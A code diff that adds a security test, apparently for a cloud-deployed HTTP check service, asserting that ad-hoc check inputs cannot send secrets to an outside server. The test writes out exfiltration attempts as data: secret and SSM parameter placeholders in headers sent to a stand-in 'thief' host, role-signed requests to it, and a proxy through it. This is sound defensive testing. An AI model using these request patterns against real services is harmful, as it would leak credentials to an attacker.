@@ -40,9 +40,10 @@ export async function neverTold(emulator: Emulator, folder: string): Promise<voi
     const adHoc = await deployment.execute({ checks: [typed] });
     expectThat(
       'an input cannot read the credentials of the role',
-      (adHoc.output ?? '').includes('environment variable AWS_SECRET_ACCESS_KEY is not given to this function'),
+      (adHoc.output ?? '').includes('takes ${env:AWS_SECRET_ACCESS_KEY} into a request that no deployed check makes'),
       true,
     );
+    await neverLent(deployment, target.url);
 
     const kept = {
       history: await deployment.history(execution),
@@ -58,6 +59,32 @@ export async function neverTold(emulator: Emulator, folder: string): Promise<voi
   } finally {
     target.stop();
   }
+}
+
+/** Whoever may start an execution gets no value to a server of their own, and may search the answer of a deployed check. */
+async function neverLent(deployment: Deployment, deployedUrl: string): Promise<void> {
+  const thief = await startEchoTarget();
+  try {
+    const X = `\${ssm:${PARAMETER}} \${secret:${NAME}}`;
+    const role = { sigv4: { service: 'ssm', region: 'us-east-1' } };
+    const stolen = [
+      { http: { url: `${thief.url}/x`, headers: { X } } },
+      { http: { url: `${thief.url}/x`, auth: role } },
+      { http: { url: `${deployedUrl}/body`, headers: { 'X-Key': `\${secret:${NAME}#login.key}` }, proxy: thief.url } },
+    ];
+    for (const request of stolen) {
+      const { output } = await deployment.execute({ checks: [{ name: 'theft', ...request }] });
+      const { error } = JSON.parse(output ?? '{}') as { error?: string };
+      expectThat(`an input is refused ${JSON.stringify(request).slice(0, 60)}`, error, 'InvalidInput');
+    }
+    expectThat('nothing came to their server', thief.seen, []);
+  } finally {
+    thief.stop();
+  }
+  const same = { url: `${deployedUrl}/body`, headers: { 'X-Key': `\${secret:${NAME}#login.key}` } };
+  const { output } = await deployment.execute({ checks: [{ name: 'mine', http: same, expect: { keyword: 'x' } }] });
+  const { results } = JSON.parse(output ?? '{}') as { results?: readonly Verdict[] };
+  expectThat('what a deployed check sends may be sent again, and searched otherwise', results?.[0]?.name, 'mine');
 }
 
 async function store(endpoint: string): Promise<void> {
